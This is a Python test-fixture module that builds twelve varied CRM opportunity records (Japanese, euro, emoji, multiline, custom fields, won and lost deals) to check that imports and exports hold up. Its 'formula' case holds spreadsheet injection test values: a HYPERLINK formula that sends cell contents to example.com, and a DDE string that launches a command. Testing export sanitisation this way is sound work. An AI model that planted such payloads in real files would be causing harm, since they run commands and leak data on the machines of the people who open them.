"""Twelve varied opportunities, each answer as a person types it, every gate passed.

What they differ in is what files are known to spoil: Japanese, long texts, three currencies, several years, fifteen
people, line breaks, formulas, quotes, emoji, fields of the organisation's own, deals won and lost.
"""

import copy
import datetime as dt
import json
from collections.abc import Callable
from decimal import Decimal
from pathlib import Path
from typing import Any, Final
from uuid import UUID

from oppwizard import i18n
from oppwizard.context import Context
from oppwizard.exchange.reading import import_file
from oppwizard.model.contact import Contact, Stakeholder
from oppwizard.model.enums import Stage, Status
from oppwizard.model.fields import FIELDS, ROW_KINDS
from oppwizard.model.findings import address
from oppwizard.walk import Walk, open_walk
from oppwizard.walk.sample import script

Script = dict[str, Any]
PLAYBOOK: Final = """
[[fields]]
name = "region"
label = "Region"
kind = "choice"
choices = [{ value = "north", label = "North" }, { value = "south", label = "South" }]

[[fields]]
name = "seats_planned"
label = "Seats planned"
kind = "integer"

[[fields]]
name = "renewal_on"
label = "Renewal on"
kind = "date"

[[fields]]
name = "sponsor"
label = "Sponsor"
kind = "person"
stage = 5

[[fields]]
name = "tags"
label = "Tags"
kind = "choices"
choices = [{ value = "strategic" }, { value = "public" }, { value = "partner" }]

[[fields]]
name = "memo"
label = "Memo"
kind = "long"

[crm.salesforce.options]
multicurrency = true

[crm.salesforce.owners]
"Ada Seller" = "ada.seller@example.com"
"Sales engineer on duty" = "duty@example.com"

[crm.salesforce.objects.Opportunity.columns]
Region__c = { source = "custom.region", convert = "label", length = 40 }
Seats_Planned__c = { source = "custom.seats_planned", convert = "integer" }
Renewal__c = { source = "custom.renewal_on", convert = "date" }
Sponsor__c = { source = "custom.sponsor", length = 80 }
Tags__c = { source = "custom.tags" }
Memo__c = { source = "custom.memo", convert = "long", length = 32768 }
Budget__c = { source = "budget_status", convert = "label", length = 40 }
"""
"""The playbook of the organisation whose deals these are."""
FORMULA: Final = '=HYPERLINK("http://example.com/?"&A1,"open")'
LONG: Final = "Every evening the counts are typed in again, line by line. " * 200
MULTILINE: Final = 'First line, with a comma\nsecond line; "quoted", and a tab\there\n\n<b>last</b> & done'
EMOJI: Final = "Zoë Ångström 🏭👩‍🔧 says: it works"
TOLD: Final = (
    "plain",
    "japanese",
    "euro",
    "long",
    "committee",
    "lines",
    "formula",
    "emoji",
    "own",
    "won",
    "lost",
    "once",
)
"""The names of the twelve, in the order in which they are made."""


def twelve(store: Path, today: dt.date, playbook: Path) -> dict[str, UUID]:
    """Make the twelve in a store, and close it.

    Args:
        playbook: where the organisation's playbook is written; files on the way stand beside it.
    """
    playbook.write_text(PLAYBOOK, "utf-8")
    walk = open_walk(Context("rep", store, playbook, clock=lambda: today))
    try:
        made = {name: taken(walk, _MAKE[name](), playbook.with_suffix(".json")) for name in TOLD}
        _close(walk, made)
        return made
    finally:
        walk.store.close()


def taken(walk: Walk, told: Script, path: Path) -> UUID:
    """Read a script as a file of one record; what is typed in it is read as a person's typing is."""
    path.write_text(json.dumps(_document(told)), "utf-8")
    (outcome,) = import_file(walk, path)
    path.unlink()
    assert not outcome.problems, outcome.problems
    assert outcome.id is not None
    record = walk.load(outcome.id)
    verdict = walk.verdict(record)
    if not record.exists and verdict.may_create:  # it looks like another one: say why it is none
        walk.save(walk.set(record, address("different_because"), "Another site, another budget"))
        walk.save(walk.create(record))
    verdict = walk.verdict(record)
    assert verdict.holds, [str(point.message) for stage in Stage for point in verdict.open_points(stage)]
    assert record.exists
    return record.id


def _document(told: Script) -> dict[str, Any]:
    answers: dict[str, dict[str, str]] = {"opportunity": {}, "account": {}, "custom": {}}
    for path, text in told["answers"].items():
        answers[FIELDS[path].entity if path in FIELDS else path.partition(".")[0]][path.rpartition(".")[2]] = text
    people = [
        {
            "contact": {name: text for name, text in one.items() if name in Contact.model_fields},
            "stakeholder": {name: text for name, text in one.items() if name in Stakeholder.model_fields},
        }
        for one in told["people"]
    ]
    rows = {kind: told[kind] for kind in ROW_KINDS if kind != "people" and kind in told}
    rows["lines"] = [{"commitment": "buying"} | line for line in told["lines"]]
    answers["opportunity"].setdefault("initial_note", "Problem and budget confirmed; demo agreed.")
    return {"format": "oppwizard.record", "version": 1, **answers, "people": people, **rows}


def _close(walk: Walk, made: dict[str, UUID]) -> None:
    today = walk.context.today
    won, lost = walk.load(made["won"]), walk.load(made["lost"])
    walk.save(walk.close(won, Status.WON, today, "value", amount=Decimal("70000")))
    walk.save(walk.close(lost, Status.LOST, today, "price", lost_to="Scanner vendor of today"))


def told_of(company: str, **answers: str) -> Script:
    """The sample's script for another company, with other answers; two underscores in a name stand for a full stop."""
    told = copy.deepcopy(script(i18n.SOURCE))
    domain = "".join(char for char in company.casefold() if char.isascii() and char.isalnum()) or "example"
    for person in told["people"]:
        person["email"] = person["email"].replace("harbortools", domain)
    told["answers"] |= {
        "account.dba": company,
        "account.legal_name": f"{company} Incorporated",
        "name": f"{company} - Stock Count - 120 scanners",
    }
    told["answers"] |= {name.replace("__", "."): text for name, text in answers.items()}
    return told


def _plain() -> Script:
    return told_of("Harbor Tools", account__website="https://harbortools.example.com")


def _japanese() -> Script:
    told = copy.deepcopy(script("ja"))
    told["answers"]["account.website"] = "https://minato.example.co.jp"
    return told


def _euro() -> Script:
    told = told_of("Müller & Söhne", currency="EUR", term_months="60", account__legal_name="Müller & Söhne GmbH")
    told["lines"][0] |= {"pricing_model": "tiered", "tiers": "1: 45, 101: 40.50, 501: 38", "ramp": "120, 300, 600"}
    told["lines"][1]["unit_price"] = "12500.55"
    return told


def _long() -> Script:
    return told_of("Lengthy Goods", business_problem=LONG, why_us=LONG[:9_000])


def _committee() -> Script:
    told = told_of("Fifteen Heads")
    names = [
        "Ada de la Cruz",
        "Ludwig van Beethoven",
        "Cher",
        "O'Neil, Tatum",
        "김 민수",
        "山田太郎",
        "José María Núñez",
    ]
    for number in range(12):
        name = names[number] if number < len(names) else f"Person Number{number}"
        own = {"name": name, "title": f"Planner {number}", "roles": "end user"}
        told["people"].append(told["people"][2] | own | {"email": f"p{number}@fifteen.example.com"})
    return told


def _lines() -> Script:
    told = told_of("Lines and Quotes", objections=MULTILINE, next_step='Send the "short" offer, then call')
    told["competitors"][0]["strengths"] = MULTILINE
    told["touchpoints"][0] |= {"subject": "Call, first", "outcome": MULTILINE}
    return told


def _formula() -> Script:
    told = told_of("@SUM(A1) Works", objections=FORMULA, name="@SUM(A1) Works - Stock Count - =1+1 scanners")
    told["people"][0]["title"] = "+cmd|' /C calc'!A0"
    return told


def _emoji() -> Script:
    told = told_of("Ångström 🏭", why_us=EMOJI, account__legal_name="Ångström 🏭 AB")
    told["people"][1]["name"] = "Zoë Ångström 🏭"
    told["answers"] |= {"decision_maker_id": "Zoë Ångström 🏭", "close_validated_by": "Zoë Ångström 🏭"}
    told["people"][0]["reports_to_id"] = "Zoë Ångström 🏭"
    told["touchpoints"][0]["people"] = "Luis Ferrer, Zoë Ångström 🏭"
    return told


def _own() -> Script:
    own = {
        "custom__region": "South",
        "custom__seats_planned": "250",
        "custom__renewal_on": "2030-03-31",
        "custom__sponsor": "Dana Whitfield",
        "custom__tags": "strategic, partner",
        "custom__memo": MULTILINE,
    }
    return told_of("Own Fields", **own)


def _won() -> Script:
    return told_of("Victory Tools", owner="Ada Seller")


def _lost() -> Script:
    return told_of("Farewell Tools", owner="Ada Seller")


def _once() -> Script:
    """One-time fees only, in yen, with the same account as the Japanese deal and people of its own."""
    ours = script("ja")["answers"]
    told = told_of("Single Yen", currency="JPY", deal_type="expansion", budget_amount="12m", budget_high="15m")
    told["answers"] |= {path: text for path, text in ours.items() if path.startswith("account.")}
    told["answers"]["name"] = "みなと工具 - Roll-out - 4 sites"
    told["lines"] = [told["lines"][1] | {"unit_price": "9500000", "discount": "5"}]
    return told


_MAKE: Final[dict[str, Callable[[], Script]]] = {
    "plain": _plain,
    "japanese": _japanese,
    "euro": _euro,
    "long": _long,
    "committee": _committee,
    "lines": _lines,
    "formula": _formula,
    "emoji": _emoji,
    "own": _own,
    "won": _won,
    "lost": _lost,
    "once": _once,
}
